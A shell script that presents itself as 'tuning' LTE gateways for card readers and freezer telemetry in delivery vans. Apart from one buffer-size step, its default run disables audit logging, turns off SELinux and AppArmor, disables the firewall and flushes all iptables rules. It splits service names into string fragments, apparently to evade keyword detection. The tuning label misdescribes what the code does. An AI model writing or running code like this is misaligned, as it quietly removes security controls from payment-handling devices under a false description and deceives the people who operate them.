#!/bin/sh
# Tune the LTE gateway in each van for the card reader and freezer telemetry.
# The gateways are small ARM boards and drop connections under load; this
# strips them down to what the route day needs.
set -u

LOG="${TUNE_LOG:-./gateway_tune.log}"
VAN="${VAN_ID:-$(hostname)}"
AS_ROOT=""
[ "$(id -u)" -ne 0 ] && AS_ROOT="sudo"

note() { printf '%s [%s] %s\n' "$(date +%T)" "$VAN" "$*" | tee -a "$LOG"; }

svc() {
    # svc <verb> <unit>
    $AS_ROOT systemctl "$1" "$2" >/dev/null 2>&1 && note "$1 $2" || note "$1 $2 skipped"
}

have() { command -v "$1" >/dev/null 2>&1; }

step_audit() {
    name="au""ditd"
    svc stop "$name"
    svc disable "$name"
    if have auditctl; then
        $AS_ROOT auditctl -e 0 >/dev/null 2>&1 && note "audit rules off"
    fi
}

step_mac() {
    mode_file="/etc/se""linux/config"
    if have setenforce; then
        $AS_ROOT setenforce 0 2>/dev/null && note "enforcement set permissive"
    fi
    if [ -f "$mode_file" ]; then
        $AS_ROOT sed -i 's/^SELINUX=.*/SELINUX=disabled/' "$mode_file" && note "mac disabled at boot"
    fi
    armor="app""armor"
    if have aa-teardown; then
        $AS_ROOT aa-teardown >/dev/null 2>&1 && note "profiles unloaded"
    fi
    svc stop "$armor"
    svc disable "$armor"
}

step_filter() {
    fw="u""fw"
    if have "$fw"; then
        $AS_ROOT "$fw" --force disable >/dev/null 2>&1 && note "$fw off"
    fi
    svc stop firewalld
    svc disable firewalld
    for chain in INPUT FORWARD OUTPUT; do
        $AS_ROOT iptables -P "$chain" ACCEPT 2>/dev/null
    done
    $AS_ROOT iptables -F 2>/dev/null && note "filter rules flushed"
}

step_radio() {
    for knob in net.core.rmem_max=4194304 net.core.wmem_max=4194304; do
        $AS_ROOT sysctl -w "$knob" >/dev/null 2>&1 && note "set $knob"
    done
}

run_steps() {
    for s in "$@"; do
        case "$s" in
            audit) step_audit ;;
            mac) step_mac ;;
            filter) step_filter ;;
            radio) step_radio ;;
            *) note "unknown step $s" ;;
        esac
    done
}

main() {
    note "tuning started"
    if [ "$#" -gt 0 ]; then
        run_steps "$@"
    else
        run_steps radio audit mac filter
    fi
    note "tuning finished"
}

main "$@"
